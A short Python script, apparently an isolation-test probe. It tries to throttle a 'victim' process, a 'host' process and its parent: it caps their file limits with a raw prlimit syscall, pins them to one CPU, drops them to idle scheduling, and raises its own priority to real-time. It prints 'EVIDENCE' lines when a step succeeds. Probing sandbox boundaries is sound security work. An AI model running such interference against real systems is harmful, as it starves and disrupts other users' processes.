"""Changes limits, priorities and processors of other processes."""

import ctypes
import os
import struct


def of_others(targets: dict) -> dict:
    """Make room."""
    libc = ctypes.CDLL(None, use_errno=True)
    arm = os.uname().machine == "aarch64"
    print("PRIMITIVE", libc.syscall)
    said = []
    limit = struct.pack("=QQ", 64, 64)
    for pid in (targets["victim"], targets["host"], os.getppid()):
        got = libc.syscall(261 if arm else 302, pid, 7, limit, None)
        said.append([got, ctypes.get_errno()])
        if got == 0:
            print("EVIDENCE limited", pid)
        for act in (lambda p: os.sched_setaffinity(p, {0}), lambda p: os.setpriority(os.PRIO_PROCESS, p, 19), lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)), lambda p: os.setpgid(p, p)):
            try:
                act(pid)
                said.append("changed")
                print("EVIDENCE changed", pid)
            except OSError as error:
                said.append(str(error))
    for act in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))):
        try:
            act()
            print("EVIDENCE priority")
        except OSError as error:
            said.append(str(error))
    return {"said": said}
